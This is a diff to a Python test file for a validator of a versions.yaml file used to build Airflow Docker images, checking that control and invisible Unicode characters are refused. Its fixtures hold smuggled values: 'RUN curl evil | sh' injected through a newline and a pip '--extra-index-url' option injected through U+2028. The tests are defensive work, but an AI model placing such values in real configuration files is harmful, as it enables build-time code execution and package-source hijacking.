@@ -514,17 +514,47 @@ def test_pinned_twice_names_both_spellings_as_written(tmp_path):
 @pytest.mark.parametrize(("mutation", "expected"), [
     pytest.param(edit(lambda doc: line(doc, 14).setdefault("environment", {}).__setitem__(
         "AIRFLOW__CORE__X", "1\nRUN curl evil | sh")),
-        "versions.yaml: lines[1] (Runtime 14) > environment > AIRFLOW__CORE__X: '1\\nRUN curl evil | sh' contains "
-        "the control character '\\n' at position 1", id="newline-in-an-environment-value"),
+        "versions.yaml: lines[1] > environment > AIRFLOW__CORE__X: '1\\nRUN curl evil | sh' contains "
+        "U+000A (a control character) at position 1", id="newline-in-an-environment-value"),
     pytest.param(edit(lambda doc: doc["suites"].__setitem__("trixie\nRUN x", {"debian": "13", "python": "3.13"})),
-                 "versions.yaml: suites > 'trixie\\nRUN x': 'trixie\\nRUN x' contains the control character",
+                 "versions.yaml: suites > 'trixie\\nRUN x': 'trixie\\nRUN x' contains U+000A",
                  id="newline-in-a-suite-name"),
     pytest.param(edit(lambda doc: doc["suites"].__setitem__("Trixie Backports", {"debian": "13", "python": "3.13"})),
                  "versions.yaml: suites > 'Trixie Backports': 'Trixie Backports' is not a Debian suite name",
                  id="suite-name-not-a-name"),
     pytest.param(edit(lambda doc: release(doc, "14.0.2").__setitem__("yanked", "broken\r\nsee elsewhere")),
-                 "contains the control character '\\r'", id="carriage-return-in-a-reason"),
+                 "contains U+000D (a control character) at position 6", id="carriage-return-in-a-reason"),
 ])
 def test_control_characters_are_refused(tmp_path, mutation, expected):
     reported = problems(tmp_path, mutation(fixture_text()))
     assert any(expected in problem for problem in reported), "\n".join(reported)
+
+
+INJECTION = "--extra-index-url http://127.0.0.1:9/simple"
+
+
+@pytest.mark.parametrize(("character", "name"), [
+    ("\u2028", "LINE SEPARATOR"), ("\u2029", "PARAGRAPH SEPARATOR"), ("\x85", "a control character"),
+    ("\u200b", "ZERO WIDTH SPACE"), ("\u202e", "RIGHT-TO-LEFT OVERRIDE"), ("\xa0", "NO-BREAK SPACE"),
+])
+def test_invisible_characters_in_a_constraint_reason_are_refused(tmp_path, character, name):
+    """A reason is rendered as a comment of constraints.txt, which pip reads with str.splitlines:
+    U+2028 there made the rest of the reason a pip option of every image (issue 30)."""
+    reason = f"celery 5.7 breaks the worker{character}{INJECTION}"
+
+    def constrain(doc):
+        line(doc, 14)["constraints"] = [{"requirement": "celery<5.7", "reason": reason}]
+
+    reported = problems(tmp_path, edit(constrain)(fixture_text()))
+    assert reported == [f"versions.yaml: lines[1] > constraints[0] > reason: {reason!r} contains "
+                        f"U+{ord(character):04X} ({name}) at position 28; values are rendered into Dockerfiles, "
+                        "scripts and constraint files, so they must be one line of printable text"]
+
+
+def test_an_invisible_character_in_a_key_is_refused(tmp_path):
+    def key(doc):
+        line(doc, 14).setdefault("environment", {})["AIRFLOW__CORE__X\u2028"] = "1"
+
+    reported = problems(tmp_path, edit(key)(fixture_text()))
+    assert any("lines[1] > environment > 'AIRFLOW__CORE__X\\u2028': 'AIRFLOW__CORE__X\\u2028' contains U+2028" in p
+               for p in reported), reported
